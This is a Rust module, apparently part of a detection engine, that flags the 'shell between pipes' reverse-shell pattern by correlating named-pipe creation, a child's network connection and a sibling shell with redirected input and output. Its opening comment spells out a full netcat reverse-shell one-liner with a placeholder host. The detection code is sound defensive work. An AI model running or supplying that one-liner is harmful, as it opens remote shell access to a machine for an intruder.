//! Shells between pipes: `mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`.
//!
//! Neither end of the shell is the connection. What is seen is a process that has a named pipe made,
//! and then starts one child that connects and another, a shell, whose input and output were both
//! put elsewhere.

use super::act::Act;
use super::lineage::Lineage;
use super::path::S_IFMT;
use super::shell::Connection;
use super::table::{Key, Table};
use crate::limits::builtin::{CONNECTED_MS, PIPED_DEPTH, PIPED_MAX, PIPES_MAX};

/// Processes that had named pipes made.
#[derive(Debug)]
pub(super) struct Pipes(Table<Plumbing>);

/// What such a process has started since.
#[derive(Debug, Default)]
struct Plumbing {
    made_ms: u64,
    connected: Option<(u32, Connection)>,
    /// Children, and bits of those of standard input and output that were put elsewhere.
    piped: Vec<(u32, u8)>,
    shell: Option<(u32, String)>,
}

/// A shell, and the connection that a sibling of it has.
pub(super) struct Between {
    pub(super) shell: String,
    pub(super) connection: Connection,
}

impl Default for Pipes {
    fn default() -> Self {
        Pipes(Table::new(PIPES_MAX))
    }
}

impl Pipes {
    /// `mkfifo` as a program, whose parent goes on, or in the process that goes on.
    pub(super) fn made(&mut self, act: &Act<'_>) {
        let mode = match act.call {
            "mknod" => act.int(1),
            _ => act.int(2),
        };
        if !act.is_done() || mode & S_IFMT != S_IFIFO {
            return;
        }
        for pid in act.pid.into_iter().chain(act.ppid) {
            if let Some(known) = self.0.find(act.key(pid)) {
                known.made_ms = act.now_ms;
                continue;
            }
            let plumbing = Plumbing {
                made_ms: act.now_ms,
                ..Plumbing::default()
            };
            self.0.put(act.key(pid), plumbing);
        }
    }

    /// A child connects, or what it started.
    pub(super) fn connects(
        &mut self,
        act: &Act<'_>,
        lineage: &mut Lineage,
        connection: &Connection,
    ) -> Option<Between> {
        let (child, key) = self.child(act, lineage)?;
        self.0.find(key)?.connected = Some((child, connection.clone()));
        self.joined(key)
    }

    /// A child puts a descriptor onto standard input or output.
    pub(super) fn puts(&mut self, act: &Act<'_>, onto: u32) {
        let (Some(pid), Some(ppid)) = (act.pid, act.ppid) else {
            return;
        };
        let Some(plumbing) = self.find(act.key(ppid), act.now_ms).filter(|_| onto < 2) else {
            return;
        };
        let piped = &mut plumbing.piped;
        if !piped.iter().any(|(known, _)| *known == pid) {
            if piped.len() == PIPED_MAX {
                piped.remove(0);
            }
            piped.push((pid, 0));
        }
        let of_pid = piped.iter_mut().filter(|(known, _)| *known == pid);
        of_pid.for_each(|(_, bits)| *bits |= 1 << onto);
    }

    /// A child becomes a shell, or starts one.
    pub(super) fn becomes_shell(
        &mut self,
        act: &Act<'_>,
        lineage: &mut Lineage,
    ) -> Option<Between> {
        let (child, key) = self.child(act, lineage)?;
        let plumbing = self.0.find(key)?;
        if plumbing.piped.contains(&(child, 0b11)) {
            plumbing.shell = Some((child, act.who()));
        }
        self.joined(key)
    }

    /// The child of such a process, and its key, that the act's own process is, or that led to it.
    fn child(&mut self, act: &Act<'_>, lineage: &mut Lineage) -> Option<(u32, Key)> {
        if self.0.is_empty() {
            return None;
        }
        let line = lineage.line(act, PIPED_DEPTH);
        line.into_iter()
            .map(|(child, parent)| (child, act.key(parent)))
            .find(|(_, key)| self.find(*key, act.now_ms).is_some())
    }

    pub(super) fn evicted(&self) -> u64 {
        self.0.evicted
    }

    fn find(&mut self, key: Key, now_ms: u64) -> Option<&mut Plumbing> {
        let plumbing = self.0.find(key)?;
        (plumbing.made_ms >= now_ms.saturating_sub(CONNECTED_MS)).then_some(plumbing)
    }

    /// Once, when both are there.
    fn joined(&mut self, key: Key) -> Option<Between> {
        let plumbing = self.0.find(key)?;
        let (connected, (shell, _)) = (plumbing.connected.as_ref()?.0, plumbing.shell.as_ref()?);
        if connected == *shell {
            return None;
        }
        let plumbing = self.0.remove(key)?;
        Some(Between {
            shell: plumbing.shell?.1,
            connection: plumbing.connected?.1,
        })
    }
}

/// include/uapi/linux/stat.h
const S_IFIFO: u32 = 0o010_000;
